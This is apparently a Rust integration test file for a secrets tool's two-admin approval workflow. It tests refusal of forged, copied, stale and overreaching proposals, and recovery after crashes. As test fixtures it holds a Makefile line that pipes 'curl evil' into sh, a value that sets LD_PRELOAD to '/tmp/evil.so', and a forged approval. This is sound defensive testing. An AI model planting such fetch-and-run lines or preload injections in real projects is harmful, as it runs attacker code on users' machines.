//! k-of-n approvals (ADR 0012): with a threshold of 2, one admin's change is
//! a proposal that does not land; a second, distinct admin's approval lands
//! it; the same admin twice does not; an approval made for other bytes does
//! not count, on approval and on every later read; stale proposals and
//! proposals touching other files are refused.

use std::fs;

use crate::common::*;

/// alice, bob and carol are admins and readers of `prod`; thresholds are
/// 2 for recipients and values. `prod` holds DB = PROD_DB.
fn three_admins_k2() -> (World, Person, Person) {
    let w = World::new();
    w.set("prod", "DB", PROD_DB);
    let bob = keygen(&w.root, "bob");
    let carol = keygen(&w.root, "carol");
    add_admin(&w, &bob);
    add_admin(&w, &carol);
    let o = w.rotate(&[
        "--add",
        &format!("bob={}", bob.recipient),
        "--add",
        &format!("carol={}", carol.recipient),
    ]);
    assert_ok(&o, "rotate --add bob carol");
    let o = w.raise_thresholds_k2(&bob);
    assert_stderr_contains(&o, "needs 2 admins", "thresholds explain proposals");
    (w, bob, carol)
}

fn proposal_branches(w: &World) -> Vec<String> {
    w.git_ok(
        &w.proj,
        &[
            "for-each-ref",
            "--format=%(refname:short)",
            "refs/heads/byreis/proposal/",
        ],
    )
    .lines()
    .map(str::to_string)
    .collect()
}

/// alice sets prod DB to `value`: a proposal. Returns its branch.
fn propose_set(w: &World, value: &str) -> String {
    let before = proposal_branches(w);
    let o = w.alice_run_stdin(&["set", "prod", "DB"], &format!("{value}\n"));
    assert_ok(&o, "set with k = 2");
    assert_stderr_contains(&o, "proposed, not landed", "set with k = 2");
    let after = proposal_branches(w);
    let new: Vec<&String> = after.iter().filter(|b| !before.contains(b)).collect();
    assert_eq!(new.len(), 1, "one new proposal branch: {after:?}");
    new[0].clone()
}

fn approve(w: &World, who: &Person, branch: &str) -> std::process::Output {
    w.run_as(who, &["approve", branch, "--yes"])
}

fn approvals_file(w: &World) -> std::path::PathBuf {
    w.proj.join(".byreis/approvals.sig")
}

fn blocks(text: &str) -> Vec<String> {
    let end = "-----END SSH SIGNATURE-----";
    text.split_inclusive(end)
        .filter(|b| b.contains(end))
        .map(|b| format!("{}\n", b.trim_start()))
        .collect()
}

#[test]
fn two_distinct_admins_land_a_change_one_does_not() {
    let (w, bob, carol) = three_admins_k2();
    let (proj_before, reg_before) = w.heads();
    let branch = propose_set(&w, "new-db-value-1");
    // Nothing landed: same heads, same value, doctor clean.
    assert_eq!(w.heads(), (proj_before.clone(), reg_before.clone()));
    w.assert_get("prod", "DB", PROD_DB);
    let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
    assert_doctor_ok(&o, &v, "doctor while a proposal waits");
    // The proposer approving again does not count.
    let o = w.alice_run(&["approve", &branch, "--yes"]);
    assert_failed(&o, "alice approves her own proposal");
    assert_stderr_contains(&o, "already approved", "alice approves twice");
    assert_eq!(w.heads(), (proj_before.clone(), reg_before.clone()));

    // bob reviews (names, masked values) and approves: it lands.
    let o = approve(&w, &bob, &branch);
    assert_ok(&o, "bob approves");
    assert_stderr_contains(&o, "prod: changed: DB", "bob sees the name-level change");
    assert_stderr_contains(&o, "values are masked", "values masked by default");
    assert_no_leak(&o, &["new-db-value-1", PROD_DB], "bob's approval output");
    assert_stderr_contains(&o, "landed", "bob's approval lands it");
    w.assert_get("prod", "DB", "new-db-value-1");
    let o = w.run_as(&carol, &["get", "prod", "DB"]);
    assert_ok(&o, "carol reads the landed value");
    assert_eq!(stdout(&o), "new-db-value-1\n");
    let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
    assert_doctor_ok(&o, &v, "doctor after landing");
    assert!(proposal_branches(&w).is_empty(), "landed branch deleted");
    // Two approvals in the landed state, stock-verifiable commits.
    let text = fs::read_to_string(approvals_file(&w)).unwrap();
    assert_eq!(
        blocks(&text).len(),
        2,
        "alice's and bob's approvals:\n{text}"
    );
    let o = w.verify_commit(&w.proj, "HEAD");
    assert_ok(&o, "git verify-commit of the landed change");
    assert_stderr_contains(&o, "bob", "bob signed the landing commit");
    let msg = w.git_ok(&w.proj, &["log", "-1", "--format=%B"]);
    assert!(msg.contains("approved by alice, bob"), "{msg}");
    // The registry's keyless CI check accepts it (one admin signs records).
    let o = run(
        &w.alice.home,
        &w.reg,
        &["registry", "verify", "--anchor", &w.anchor],
        None,
    );
    assert_ok(&o, "registry verify after an approved change");

    // Recipient changes need two admins as well.
    let o = w.rotate(&["--remove", "carol"]);
    assert_ok(&o, "rotate with k = 2");
    assert_stderr_contains(&o, "proposed, not landed", "rotate with k = 2");
    let o = w.run_as(&carol, &["get", "prod", "DB"]);
    assert_ok(&o, "carol still reads before the removal lands");
    let branch = proposal_branches(&w).pop().expect("rotation proposal");
    let o = approve(&w, &bob, &branch);
    assert_ok(&o, "bob approves the removal");
    assert_stderr_contains(&o, "readers removed: carol", "bob sees the reader change");
    let o = w.run_as(&carol, &["get", "prod", "DB"]);
    assert_refused(&o, &["identity-not-recipient"], "carol after removal");
}

#[test]
fn approvals_that_do_not_match_the_manifest_never_count() {
    let (w, bob, carol) = three_admins_k2();
    // P0: alice proposes, bob approves: landed. bob's approval of P0 is kept.
    let p0 = propose_set(&w, "value-p0");
    assert_ok(&approve(&w, &bob, &p0), "bob approves p0");
    let p0_text = fs::read_to_string(approvals_file(&w)).unwrap();
    let p0_blocks = blocks(&p0_text);
    assert_eq!(p0_blocks.len(), 2);
    let bob_p0 = p0_blocks[1].clone();

    // P1: bob's old approval copied into it does not count for carol's
    // review, and is left out of what lands.
    let p1 = propose_set(&w, "value-p1");
    w.git_ok(&w.proj, &["checkout", "-q", &p1]);
    let alice_p1 = fs::read_to_string(approvals_file(&w)).unwrap();
    fs::write(approvals_file(&w), format!("{alice_p1}{bob_p0}")).unwrap();
    w.git_ok(&w.proj, &["commit", "-q", "-a", "-m", "copy an approval"]);
    w.git_ok(&w.proj, &["checkout", "-q", "main"]);
    let o = approve(&w, &carol, &p1);
    assert_ok(&o, "carol approves p1");
    assert_stderr_contains(
        &o,
        "approved so far by alice (1 of 2",
        "bob's copy not counted",
    );
    assert_stderr_contains(
        &o,
        "1 approval(s) in it do not verify",
        "void approval named",
    );
    w.assert_get("prod", "DB", "value-p1");
    let landed = fs::read_to_string(approvals_file(&w)).unwrap();
    assert!(!landed.contains(bob_p0.trim()), "void approval dropped");

    // The record carries the proof too (ADR 0017): with it, a project
    // writer who empties approvals.sig changes nothing.
    fs::write(approvals_file(&w), "").unwrap();
    w.assert_get("prod", "DB", "value-p1");
    // Without it (alice re-signs the record alone, dropping them), reads
    // count what approvals.sig holds: the same admin twice, or an approval
    // of other bytes, is refused.
    let record = w.reg.join("projects/demo/record.yaml");
    strip_record_proof(&record);
    let mut r: serde_yaml::Value =
        serde_yaml::from_str(&fs::read_to_string(&record).unwrap()).unwrap();
    r["signer"] = "alice".into();
    r["signer_key"] = w.manifest_yaml()["signer_key"].clone();
    fs::write(&record, serde_yaml::to_string(&r).unwrap()).unwrap();
    w.ssh_sign(
        &w.alice.home.join("signing_key"),
        "record@byreis.dev",
        &record,
    );
    w.git_ok(
        &w.reg,
        &["commit", "-q", "-a", "-m", "record without its proof"],
    );
    let lb = blocks(&landed);
    assert_eq!(lb.len(), 2, "alice and carol");
    for (what, text) in [
        ("the same admin twice", format!("{}{}", lb[0], lb[0])),
        ("an approval of other bytes", format!("{}{bob_p0}", lb[0])),
        ("no approval but the proposer's", lb[0].clone()),
    ] {
        fs::write(approvals_file(&w), &text).unwrap();
        w.assert_reads_refused(&["approvals-short"], &["value-p1"], what);
    }
    fs::write(approvals_file(&w), &landed).unwrap();
    w.assert_get("prod", "DB", "value-p1");
}

#[test]
fn stale_and_overreaching_proposals_are_refused() {
    let (w, bob, carol) = three_admins_k2();
    let p1 = propose_set(&w, "value-1");
    let p2 = propose_set(&w, "value-2");
    let p3 = propose_set(&w, "value-3");
    // A proposal whose branch also changes another file.
    w.git_ok(&w.proj, &["checkout", "-q", &p2]);
    fs::write(w.proj.join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
    w.git_ok(&w.proj, &["add", "Makefile"]);
    w.git_ok(&w.proj, &["commit", "-q", "-m", "sneak"]);
    w.git_ok(&w.proj, &["checkout", "-q", "main"]);
    let heads = w.heads();
    let o = approve(&w, &bob, &p2);
    assert_failed(&o, "approve a proposal that touches Makefile");
    assert_stderr_contains(
        &o,
        "not byreis's to change: Makefile",
        "names the overreach",
    );
    assert_eq!(w.heads(), heads, "nothing changed");
    // p1 lands; p3 was made on the old state: stale.
    assert_ok(&approve(&w, &bob, &p1), "bob approves p1");
    w.assert_get("prod", "DB", "value-1");
    let heads = w.heads();
    let o = approve(&w, &carol, &p3);
    assert_failed(&o, "approve a stale proposal");
    assert_stderr_contains(&o, "stale", "stale named");
    assert_eq!(w.heads(), heads, "nothing changed");
    // Not a proposal branch at all.
    let o = approve(&w, &carol, "main");
    assert_failed(&o, "approve main");
    assert_stderr_contains(&o, "not a proposal branch", "approve main");
}

/// A kill -9 at every step boundary of the approval that lands a change
/// (and of a plain `set`, below the threshold): every value stays readable,
/// doctor names the state, and `--resume` or `--abort` leaves it clean.
#[test]
fn kill_at_every_step_of_an_approval_then_recover() {
    let (w, bob, _carol) = three_admins_k2();
    for (i, step) in byreis::failpoint::STEPS.iter().enumerate() {
        let what = format!("approval killed at {step}");
        let old = format!("value-before-{i}");
        // Land `old` first (a proposal approved by bob), then propose `new`.
        let b = propose_set(&w, &old);
        assert_ok(&approve(&w, &bob, &b), "bob approves");
        let new = format!("value-after-{i}");
        let branch = propose_set(&w, &new);
        let o = run_env(
            &bob.home,
            &w.proj,
            &["approve", &branch, "--yes"],
            None,
            &[
                ("BYREIS_ANCHOR", w.anchor.as_str()),
                ("BYREIS_TEST_KILL_AT", step),
            ],
        );
        assert_eq!(
            std::os::unix::process::ExitStatusExt::signal(&o.status),
            Some(9),
            "{what}: expected SIGKILL\n{}",
            dump(&o)
        );
        // Every value readable: the old one until the record pins the new.
        let o = w.alice_run(&["get", "prod", "DB"]);
        assert_ok(&o, &what);
        let served = stdout(&o).trim().to_string();
        let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
        match *step {
            "prepared" | "commit-object" => {
                assert_eq!(served, old, "{what}");
                assert_doctor_ok(&o, &v, &what);
                // Nothing landed: the proposal can still be approved.
                assert_ok(
                    &approve(&w, &bob, &branch),
                    &format!("{what}: approve again"),
                );
            }
            "begun" | "branch" | "project-pushed" => {
                assert_eq!(
                    served, old,
                    "{what}: a pending change serves the last complete state"
                );
                assert_doctor_fails(&o, &v, &["change-pending"], &what);
                let recover: &[&str] = if i % 2 == 0 {
                    &["rotate", "--resume", "--yes"]
                } else {
                    &["rotate", "--abort"]
                };
                assert_ok(&w.alice_run(recover), &format!("{what}: {recover:?}"));
                let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
                assert_doctor_ok(&o, &v, &format!("{what}: after {recover:?}"));
                let expected = if i % 2 == 0 { &new } else { &old };
                w.assert_get("prod", "DB", expected);
                if i % 2 == 1 {
                    // Aborted: the proposal still stands on the old state.
                    let _ = w.git(&w.proj, &["branch", "-D", &branch]);
                } else {
                    // Resumed: the landed proposal's branch is removed.
                    assert!(!proposal_branches(&w).contains(&branch), "{what}");
                }
            }
            _ => {
                assert_eq!(served, new, "{what}");
                assert_doctor_ok(&o, &v, &what);
                // Killed after landing, before its branch was removed:
                // approving again says so and removes it.
                if proposal_branches(&w).contains(&branch) {
                    let o = approve(&w, &bob, &branch);
                    assert_ok(&o, &format!("{what}: approve a landed proposal"));
                    assert_stderr_contains(&o, "already landed", &what);
                    assert!(!proposal_branches(&w).contains(&branch), "{what}");
                }
            }
        }
    }
}

/// With a threshold of 2, absorbing an access request is a proposal like
/// any rotation: the request stays `requested` until a second admin's
/// approval lands it, which records it as absorbed.
#[test]
fn an_absorbed_request_lands_with_the_second_approval() {
    let (w, bob, _carol) = three_admins_k2();
    let gina = keygen(&w.root, "gina");
    let o = w.run_as(&gina, &["request-access", "--name", "gina"]);
    assert_ok(&o, "request-access");
    let fp = stdout(&o).trim().to_string();
    let branch = "byreis/request/gina";
    let before = proposal_branches(&w);
    let o = w.alice_run(&absorb_args(branch, &fp));
    assert_ok(&o, "absorb with k = 2");
    assert_stderr_contains(&o, "proposed, not landed", "absorb with k = 2");
    assert_stderr_contains(&o, "stays `requested`", "says when it is recorded");
    let show = |w: &World| stdout(&w.alice_run(&["request", "show", branch]));
    assert!(show(&w).contains("state: requested"), "{}", show(&w));
    assert_failed(
        &w.run_as(&gina, &["get", "prod", "DB"]),
        "gina before landing",
    );
    let proposal: Vec<String> = proposal_branches(&w)
        .into_iter()
        .filter(|b| !before.contains(b))
        .collect();
    assert_eq!(proposal.len(), 1, "{proposal:?}");

    let o = approve(&w, &bob, &proposal[0]);
    assert_ok(&o, "bob approves the absorbing rotation");
    assert_stderr_contains(&o, "new member gina", "bob sees who is added");
    assert_stderr_contains(&o, "was absorbed at counter", "the landing records it");
    assert!(show(&w).contains("state: absorbed"), "{}", show(&w));
    let o = w.run_as(&gina, &["get", "prod", "DB"]);
    assert_ok(&o, "gina reads after landing");
    assert_eq!(stdout(&o), format!("{PROD_DB}\n"));
    let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
    assert_doctor_ok(&o, &v, "doctor after landing");
}

/// The landing approval killed at seeded random moments: the value is the
/// old or the new one, never lost; afterwards a pending change is resumed,
/// an unlanded proposal is approved again, and `doctor` is clean.
#[test]
fn approval_killed_at_seeded_random_moments() {
    let (w, bob, _carol) = three_admins_k2();
    let mut rng = Lcg(0xa99_5eed);
    let branch = propose_set(&w, "measured");
    let run_ms = time_ms(|| assert_ok(&approve(&w, &bob, &branch), "measure"));
    let mut current = "measured".to_string();
    let mut outcomes = std::collections::BTreeMap::new();
    for n in 0..kills() {
        let new = format!("approved-value-{n}");
        let branch = propose_set(&w, &new);
        let delay = std::time::Duration::from_millis(rng.below(run_ms + 5));
        let status = run_and_kill(
            byreis_cmd(&bob.home, &w.proj)
                .args(["approve", &branch, "--yes"])
                .env("BYREIS_ANCHOR", &w.anchor),
            None,
            delay,
        );
        let what = format!("approval killed after {delay:?} (run {n})");
        // A kill while git2 moved or deleted a branch can leave its lock.
        let after = recover_after_kill(&w, &what, &mut outcomes, || {
            w.assert_get("prod", "DB", &current)
        });
        let outcome = if let AfterKill::Settled(o, v) = after {
            assert_doctor_ok(&o, &v, &what);
            if proposal_branches(&w).contains(&branch) {
                // Landed but killed before its branch was removed, or not
                // landed: approving again finishes either.
                let landed = stdout(&w.alice_run(&["get", "prod", "DB"])) == format!("{new}\n");
                if !landed {
                    w.assert_get("prod", "DB", &current);
                }
                assert_ok(
                    &approve(&w, &bob, &branch),
                    &format!("{what}: approve again"),
                );
                if landed {
                    "landed, branch removed by approving again"
                } else {
                    "not landed, approved again"
                }
            } else if status.success() {
                "finished before the kill"
            } else {
                "landed before the kill"
            }
        } else {
            "pending, resumed"
        };
        *outcomes.entry(outcome).or_insert(0) += 1;
        w.assert_get("prod", "DB", &new);
        current = new;
        let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
        assert_doctor_ok(&o, &v, &format!("{what}, recovered"));
        assert!(
            proposal_branches(&w).is_empty(),
            "{what} ({outcome}): branches left: {:?}",
            proposal_branches(&w)
        );
    }
    eprintln!("approval random kills: {outcomes:?}");
}

/// An approval block signed by a key that is not an admin's, added to a
/// proposal by hand, never counts: the proposal still needs a second
/// admin, and a non-admin cannot approve through byreis either.
#[test]
fn a_non_admin_approval_never_counts() {
    let (w, bob, _carol) = three_admins_k2();
    let branch = propose_set(&w, "value-x");
    // mallory signs the proposal's manifest in the proposal namespace and
    // commits the block onto the branch's approvals.
    let mallory = w.outsider_ssh_key("mallory");
    let copy = w.root.join("proposed-manifest.yaml");
    fs::write(&copy, w.git_blob(&branch, ".byreis/manifest.yaml")).unwrap();
    w.ssh_sign(&mallory, "proposal@byreis.dev", &copy);
    let block = fs::read_to_string(format!("{}.sig", copy.display())).unwrap();
    w.git_ok(&w.proj, &["checkout", "-q", &branch]);
    let approvals = approvals_file(&w);
    let mut text = fs::read_to_string(&approvals).unwrap();
    text.push_str(&block);
    fs::write(&approvals, text).unwrap();
    w.git_ok(&w.proj, &["commit", "-qam", "mallory approves"]);
    w.git_ok(&w.proj, &["checkout", "-q", "main"]);

    let mallory_home = w.root.join("mallory-home");
    let o = run_env(
        &mallory_home,
        &w.proj,
        &["approve", &branch, "--yes"],
        None,
        &anchor_env(&w),
    );
    assert_failed(&o, "a non-admin approves");
    w.assert_get("prod", "DB", PROD_DB);
    let o = approve(&w, &bob, &branch);
    assert_ok(&o, "bob approves");
    assert_stderr_contains(
        &o,
        "(1 of 2 admins needed)",
        "only alice counted before bob",
    );
    w.assert_get("prod", "DB", "value-x");
}

/// Found by `approval_killed_at_seeded_random_moments`: a kill while git
/// deleted the landed proposal's branch can leave that branch's lock
/// file, after which deleting the branch fails. `doctor` names the lock
/// (`git-lock-stale`), approving again says the branch could not be
/// removed (it used to say it was), and once the lock is removed as told,
/// approving again removes the branch.
#[test]
fn a_lock_left_on_a_landed_proposal_branch_is_named() {
    let (w, bob, _carol) = three_admins_k2();
    let branch = propose_set(&w, "locked-1");
    let tip = w.git_ok(&w.proj, &["rev-parse", &branch]);
    assert_ok(&approve(&w, &bob, &branch), "approve");
    w.assert_get("prod", "DB", "locked-1");
    // As the kill leaves it: the branch, and its lock.
    w.git_ok(&w.proj, &["branch", &branch, &tip]);
    let lock = w
        .proj
        .join(".git/refs/heads")
        .join(format!("{branch}.lock"));
    fs::write(&lock, b"").unwrap();
    let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
    assert_doctor_fails(&o, &v, &["git-lock-stale"], "doctor names the lock");
    assert!(
        stdout(&o).contains(&lock.display().to_string()),
        "{}",
        dump(&o)
    );
    let o = approve(&w, &bob, &branch);
    assert_failed(&o, "approve again with the lock");
    assert_stderr_contains(&o, "could not be removed", "says so");
    assert_eq!(proposal_branches(&w), std::slice::from_ref(&branch));
    assert_eq!(clear_named_locks(&w), [lock]);
    let o = approve(&w, &bob, &branch);
    assert_ok(&o, "approve again after the lock is removed");
    assert_stderr_contains(&o, "already landed", "approve again");
    assert!(proposal_branches(&w).is_empty());
    let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
    assert_doctor_ok(&o, &v, "doctor at the end");
    w.assert_get("prod", "DB", "locked-1");
}

/// `exec-allow` with k = 2 is a proposal like any signed change (the
/// approver sees the allowance); and the flags of names `exec` refuses come
/// from the current signed state, never from the proposal. A `set` whose
/// own manifest also allows LD_PRELOAD is refused (ADR 0018); the honest
/// `set` of LD_PRELOAD is flagged.
#[test]
fn exec_allow_is_a_proposal_and_a_self_allowing_proposal_is_flagged() {
    let (w, bob, _carol) = three_admins_k2();
    let before = proposal_branches(&w);
    let o = w.alice_run_stdin(&["set", "prod", "PYTHONWARNINGS"], "default\n");
    assert_ok(&o, "set PYTHONWARNINGS with k = 2");
    let branch = proposal_branches(&w)
        .into_iter()
        .find(|b| !before.contains(b))
        .expect("a proposal branch");
    assert_ok(&approve(&w, &bob, &branch), "bob approves the set");
    let before = proposal_branches(&w);
    let o = w.alice_run(&["exec-allow", "prod", "PYTHONWARNINGS"]);
    assert_ok(&o, "exec-allow with k = 2");
    assert_stderr_contains(&o, "proposed, not landed", "exec-allow with k = 2");
    let branch = proposal_branches(&w)
        .into_iter()
        .find(|b| !before.contains(b))
        .expect("a proposal branch");
    let o = w.alice_run(&["exec", "prod", "--", "true"]);
    assert_failed(&o, "exec before the allowance lands");
    let o = approve(&w, &bob, &branch);
    assert_ok(&o, "bob approves exec-allow");
    assert_stderr_contains(
        &o,
        "prod: exec_allow added: PYTHONWARNINGS (`byreis exec prod` will pass it to programs although family PYTHON*",
        "the approver sees the allowance",
    );
    assert_eq!(w.last_audit()["action"], "exec-allow");
    let o = w.alice_run(&[
        "exec",
        "prod",
        "--",
        "sh",
        "-c",
        "printf %s \"$PYTHONWARNINGS\"",
    ]);
    assert_ok(&o, "exec after the allowance landed");
    assert_eq!(stdout(&o), "default");

    // alice proposes LD_PRELOAD; the proposal is then re-signed by alice
    // with its manifest also allowing LD_PRELOAD in prod (a buggy or
    // malicious client; every signature is genuine).
    let before = proposal_branches(&w);
    let o = w.alice_run_stdin(&["set", "prod", "LD_PRELOAD"], "/tmp/evil.so\n");
    assert_ok(&o, "set LD_PRELOAD with k = 2");
    let branch = proposal_branches(&w)
        .into_iter()
        .find(|b| !before.contains(b))
        .expect("a proposal branch");
    let honest = w
        .git_ok(&w.proj, &["rev-parse", &branch])
        .trim()
        .to_string();
    w.git_ok(&w.proj, &["checkout", "-q", &branch]);
    let manifest = w.manifest();
    let yaml = w.manifest_yaml();
    let sha = yaml["environments"]["prod"]["sha256"]
        .as_str()
        .unwrap()
        .to_string();
    let allowed = "    exec_allow:\n    - LD_PRELOAD\n    - PYTHONWARNINGS\n";
    let text = fs::read_to_string(&manifest).unwrap();
    let old = format!("    sha256: {sha}\n    exec_allow:\n    - PYTHONWARNINGS\n");
    assert!(text.contains(&old), "{text}");
    fs::write(
        &manifest,
        text.replace(&old, &format!("    sha256: {sha}\n{allowed}")),
    )
    .unwrap();
    let key = w.alice.home.join("signing_key");
    w.ssh_sign(&key, "manifest@byreis.dev", &manifest);
    let copy = w.root.join("self-allowing-manifest.yaml");
    fs::copy(&manifest, &copy).unwrap();
    w.ssh_sign(&key, "proposal@byreis.dev", &copy);
    fs::copy(format!("{}.sig", copy.display()), approvals_file(&w)).unwrap();
    // Amended, so the proposal is one commit on the pinned state.
    w.git_ok(
        &w.proj,
        &["commit", "-qa", "--amend", "--no-edit", "--no-gpg-sign"],
    );
    w.git_ok(&w.proj, &["checkout", "-q", "main"]);

    // A `set` whose manifest also allows the name is refused, with the
    // allowance shown (ADR 0018), however it is approved.
    let heads = w.heads();
    let o = w.run_as(&bob, &["approve", &branch, "--yes"]);
    assert_failed(&o, "a set that smuggles an allowance");
    assert_stderr_contains(
        &o,
        "it is `set` (a change of values), but its manifest also changes: prod: exec_allow added: LD_PRELOAD",
        "the allowance is named",
    );
    assert_eq!(w.heads(), heads, "nothing landed");

    // The honest proposal (alice's own, before the edit): LD_PRELOAD is
    // flagged by the current state's allowances; PYTHONWARNINGS, allowed
    // by the current state, is not.
    w.git_ok(&w.proj, &["branch", "-f", &branch, &honest]);
    let o = w.run_as(&bob, &["approve", &branch]);
    assert_failed(&o, "non-interactive approve without --yes");
    assert_stderr_contains(
        &o,
        "approved so far by alice (1 of 2",
        "the review verified",
    );
    assert_stderr_contains(
        &o,
        "prod: FLAGGED LD_PRELOAD: exec refuses it (family LD_*: ",
        "flagged by the current state's allowances",
    );
    assert!(
        !stderr(&o).contains("FLAGGED PYTHONWARNINGS"),
        "{}",
        dump(&o)
    );
    assert_eq!(w.heads(), heads, "nothing landed");
    let o = w.alice_run(&["exec", "prod", "--", "true"]);
    assert_ok(&o, "exec of the current state");
}
